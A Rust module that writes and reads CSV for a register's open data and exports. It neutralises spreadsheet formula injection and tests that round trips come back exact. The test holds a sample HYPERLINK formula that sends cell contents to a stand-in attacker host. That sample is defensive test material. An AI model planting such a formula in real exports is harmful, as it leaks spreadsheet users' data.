//! The CSV format, read for `import` and written for the open data and the
//! exports: the one module that uses the `csv` crate.

/// How a CSV file is laid out.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Layout {
    /// Fields quoted only where needed, lines ending in LF: the site's own
    /// open data (`register.csv`, `errors.csv`).
    Plain,
    /// Every field quoted, lines ending in CRLF as RFC 4180 asks: the
    /// exports other registers take in.
    Strict,
}

/// Characters that make a spreadsheet read a cell as a formula when they
/// start it (OWASP, "CSV injection"): `=`, `+`, `-`, `@`, tab and carriage
/// return.
const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// Whether a spreadsheet would take `cell` as a formula, or the cell would
/// look like one neutralised here once its first quote is taken off.
fn needs_quote_mark(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(FORMULA_STARTS)
}

/// A cell as it is written: one that a spreadsheet would run as a formula
/// gets a leading `'`, which spreadsheets show as text and do not display.
/// A cell that already starts with quote marks before such a character gets
/// one more, so that [`read`] gives every text back exactly.
fn neutralised(cell: &str) -> std::borrow::Cow<'_, str> {
    if needs_quote_mark(cell) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// The text of a cell written by [`neutralised`].
fn restored(cell: String) -> String {
    if cell.starts_with('\'') && needs_quote_mark(&cell) {
        cell[1..].to_string()
    } else {
        cell
    }
}

/// Writes a header and rows as CSV. Every cell that would start a formula
/// is neutralised, whatever its source.
pub(crate) fn write(layout: Layout, header: &[&str], rows: &[Vec<String>]) -> Vec<u8> {
    let mut builder = csv::WriterBuilder::new();
    if layout == Layout::Strict {
        builder
            .quote_style(csv::QuoteStyle::Always)
            .terminator(csv::Terminator::CRLF);
    }
    let mut w = builder.from_writer(Vec::new());
    // Writing to memory cannot fail.
    let _ = w.write_record(header.iter().map(|h| neutralised(h).into_owned()));
    for row in rows {
        let _ = w.write_record(row.iter().map(|cell| neutralised(cell).into_owned()));
    }
    w.into_inner().unwrap_or_default()
}

/// Reads CSV with a header row into (header, rows). A byte-order mark at the
/// start is dropped; rows may be shorter than the header.
pub(crate) fn read(text: &str) -> Result<(Vec<String>, Vec<Vec<String>>), String> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    let mut r = csv::ReaderBuilder::new()
        .flexible(true)
        .from_reader(text.as_bytes());
    let header = r
        .headers()
        .map_err(|e| e.to_string())?
        .iter()
        .map(|h| h.trim().to_string())
        .collect();
    let mut rows = Vec::new();
    for record in r.records() {
        let record = record.map_err(|e| e.to_string())?;
        rows.push(
            record
                .iter()
                .map(|cell| restored(cell.to_string()))
                .collect(),
        );
    }
    Ok((header, rows))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_neutralised_and_read_back_exactly() {
        let cells = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+44 1632 960000",
            "-1",
            "@SUM(A1)",
            "\tTabbed",
            "\rReturn",
            "'=already quoted",
            "''+twice",
            "'plain quote",
            "Plain text",
            "a=b",
            "",
        ];
        for layout in [Layout::Plain, Layout::Strict] {
            let rows = vec![cells.iter().map(|c| c.to_string()).collect::<Vec<_>>()];
            let header: Vec<&str> = (0..cells.len()).map(|_| "h").collect();
            let bytes = write(layout, &header, &rows);
            // What a spreadsheet sees: no cell starts with a formula character.
            let mut raw = csv::ReaderBuilder::new()
                .has_headers(true)
                .from_reader(bytes.as_slice());
            let record = raw.records().next().unwrap().unwrap();
            for cell in record.iter() {
                assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?} left unsafe");
            }
            // What import reads: the original text.
            let (_, back) = read(std::str::from_utf8(&bytes).unwrap()).unwrap();
            assert_eq!(back, rows, "{layout:?}");
        }
    }
}
